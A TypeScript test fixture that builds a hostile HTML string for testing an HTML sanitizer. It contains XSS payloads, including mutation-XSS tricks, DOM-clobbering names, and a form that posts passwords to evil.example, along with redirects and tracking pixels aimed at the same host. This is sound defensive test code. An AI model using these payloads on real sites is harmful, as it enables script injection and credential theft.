/** What every payload does if anything lets it run; tests look for it. */
const RUN = 'window.__pwned=true;parent.__pwned=true'
const FAR = 'https://evil.example'

const before = [
  `<script>${RUN}</script>`,
  `<img src="x" onerror="${RUN}" alt="">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName="x" dur="1s"/><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
  `<video autoplay onloadstart="${RUN}"><source src="x" onerror="${RUN}"></video>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"></select>`,
  // A cleaner that parses only once is fooled by these two.
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>"></p></noscript>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  '</mglyph></table></mtext></math>',
].join('')

const after = [
  `<p><a href="javascript:${RUN}">Claim 1</a> <a href=" java\nscript:${RUN}">Claim 2</a>`,
  ` <a href="data:text/html,<script>${RUN}</script>">Claim 3</a>`,
  ` <a href="${FAR}/claim" target="_blank" rel="opener">Claim 4</a> <a href="//evil.example">Claim 5</a></p>`,
  `<form action="${FAR}/steal" method="post"><input name="password" type="password"><button formaction="javascript:${RUN}">Log in</button></form>`,
  `<style>@import url("${FAR}/a.css");body{display:none!important}</style>`,
  `<link rel="stylesheet" href="${FAR}/b.css"><base href="${FAR}/"><meta http-equiv="refresh" content="0;url=${FAR}/">`,
  `<p style="position:fixed;inset:0;z-index:99999;background:url(${FAR}/c.png)">Over everything</p>`,
  `<img src="${FAR}/pixel.gif" alt=""><img srcset="${FAR}/pixel2.gif 1x" alt="">`,
  // Names that the page itself uses: an element must not take their place, nor wear its clothes.
  '<div id="root" class="dialog button primary">Root</div><a id="early" name="early" href="x"></a>',
  '<form id="portalMock"><input name="getElementById"><input name="attributes"></form>',
  '<img name="cookie" alt=""><img id="__proto__" name="body" alt="">',
  `<p onclick="${RUN}" onmouseover="${RUN}" tabindex="0" accesskey="x" contenteditable>Touch me</p>`,
].join('')

/** D-049: a text among everything a cleaner must take away. `window.__pwned` stays undefined if it does. */
export const hostileHtml = (text: string): string => `${before}<p>${text}</p>${after}`
